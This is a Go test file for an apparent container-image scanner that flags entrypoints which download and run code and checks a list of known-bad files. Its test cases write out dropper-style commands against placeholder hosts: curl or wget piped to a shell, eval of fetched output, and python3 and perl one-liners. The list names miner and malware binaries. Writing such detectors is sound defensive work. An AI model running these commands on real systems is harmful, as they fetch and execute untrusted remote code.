package image

import (
	"strings"
	"testing"
)

// TestFetchRunReason: entrypoints that fetch code and run it, in the forms
// droppers use, and the look-alikes that only download or only run.
func TestFetchRunReason(t *testing.T) {
	cases := []struct {
		argv []string
		want string // substring of the reason; "" for none
	}{
		{[]string{"/bin/sh", "-c", "curl -fsSL http://x.invalid/i.sh | sh"}, "output of `curl` is piped into `sh`"},
		{[]string{"sh", "-c", "wget -q -O- http://x.invalid/i | bash -s -- --opt"}, "output of `wget` is piped into `bash`"},
		{[]string{"/bin/bash", "-c", `sh -c "$(curl -fsSL https://x.invalid/i)"`}, "`sh` runs the output of `curl`"},
		{[]string{"bash", "-c", "eval \"$(wget -qO- http://x.invalid/e)\""}, "`eval` runs the output of `wget`"},
		{[]string{"/bin/sh", "-c", "curl -so /tmp/x http://x.invalid/x && chmod +x /tmp/x && /tmp/x -o pool"}, "downloads /tmp/x and a later command runs it"},
		{[]string{"sh", "-c", "wget -O /tmp/s.sh http://x.invalid/s.sh; sh /tmp/s.sh"}, "downloads /tmp/s.sh"},
		{[]string{"python3", "-c", "import urllib.request;exec(urllib.request.urlopen('http://x.invalid/p').read())"}, "`python3 -c` fetches code"},
		{[]string{"/usr/bin/perl", "-e", "use LWP::Simple; eval(get('http://x.invalid/p'))"}, "`perl -e` fetches code"},
		// Not download-and-run.
		{[]string{"/usr/local/bin/app", "--port", "8080"}, ""},
		{[]string{"sh", "-c", "curl -fsS http://localhost:8080/health || exit 1"}, ""},
		{[]string{"sh", "-c", "wget -O /data/model.bin https://x.invalid/m && exec /app/serve /data/model.bin"}, ""},
		{[]string{"python3", "-c", "import urllib.request; print(urllib.request.urlopen('http://x').status)"}, ""},
		{[]string{"python3", "-m", "http.server"}, ""},
		{[]string{"bash"}, ""},
		{[]string{"curl", "-fsSL", "http://x.invalid/i.sh", "|", "sh"}, ""}, // exec form: no shell, "|" is an argument
		{[]string{"sh", "-c", "curl http://x.invalid | tee /tmp/log"}, ""},
		{[]string{"sh", "-c", "unbalanced 'quote"}, ""},
	}
	for _, c := range cases {
		got := fetchRunReason(c.argv)
		if (c.want == "") != (got == "") || !strings.Contains(got, c.want) {
			t.Errorf("%q: reason %q, want %q", c.argv, got, c.want)
		}
	}
}

// TestKnownBadList: the shipped list parses, every entry has a source, and
// malformed lines are errors naming the line.
func TestKnownBadList(t *testing.T) {
	kb, err := parseKnownBad(knownBadData)
	if err != nil {
		t.Fatal(err)
	}
	for _, n := range []string{"xmrig", "kinsing", "kdevtmpfsi"} {
		if _, ok := kb.names[n]; !ok {
			t.Errorf("name %s not listed", n)
		}
	}
	if bf, ok := kb.digests["275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"]; !ok || !kb.sizes[68] || !strings.Contains(bf.What, "EICAR") {
		t.Errorf("EICAR digest: %+v, sizes %v", bf, kb.sizes)
	}
	for _, bad := range []struct{ line, want string }{
		{"name xmrig | miner", "line 1: want"},
		{"name xmrig | miner | http://insecure", "line 1: want"},
		{"name a/b | x | https://s", "want `name BASENAME`"},
		{"sha256 ABCD 12 | x | https://s", "not a lower-case SHA-256"},
		{"sha256 275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f zero | x | https://s", "bad size"},
		{"md5 x | y | https://s", "want `name BASENAME`"},
	} {
		if _, err := parseKnownBad([]byte("# c\n\n" + bad.line)); err == nil || !strings.Contains(err.Error(), strings.Replace(bad.want, "line 1", "line 3", 1)) {
			t.Errorf("%q: error %v, want %q", bad.line, err, bad.want)
		}
	}
	a := HashAnalyzer()
	if !a.Wants("/x", 68, 0o644) || a.Wants("/x", 69, 0o644) || a.Wants("/x", 68, 0o644|1<<31) {
		t.Error("HashAnalyzer.Wants: want regular files of a listed size only")
	}
}

// FuzzFetchRunReason: any entrypoint an image config holds is judged
// without a panic.
func FuzzFetchRunReason(f *testing.F) {
	f.Add("/bin/sh\x00-c\x00curl -fsSL http://x.invalid/i.sh | sh")
	f.Add("python3\x00-c\x00import urllib.request;exec(urllib.request.urlopen('u').read())")
	f.Add("sh\x00-c\x00curl -o /tmp/x u && /tmp/x")
	f.Add("app\x00'\x00\"\x00$(")
	f.Fuzz(func(t *testing.T, s string) {
		argv := strings.Split(s, "\x00")
		if why := fetchRunReason(argv); why != "" && !strings.Contains(why, "`") {
			t.Fatalf("reason %q names no command", why)
		}
	})
}

// FuzzParseKnownBad: the list parser never panics, and what it accepts
// has sources and 64-digit digests.
func FuzzParseKnownBad(f *testing.F) {
	f.Add(string(knownBadData))
	f.Add("name x | y | https://z\nsha256 " + strings.Repeat("a", 64) + " 1 | y | https://z\n")
	f.Fuzz(func(t *testing.T, s string) {
		kb, err := parseKnownBad([]byte(s))
		if err != nil {
			return
		}
		for d, bf := range kb.digests {
			if len(d) != 64 || !strings.HasPrefix(bf.Source, "https://") {
				t.Fatalf("accepted digest %q %+v", d, bf)
			}
		}
	})
}
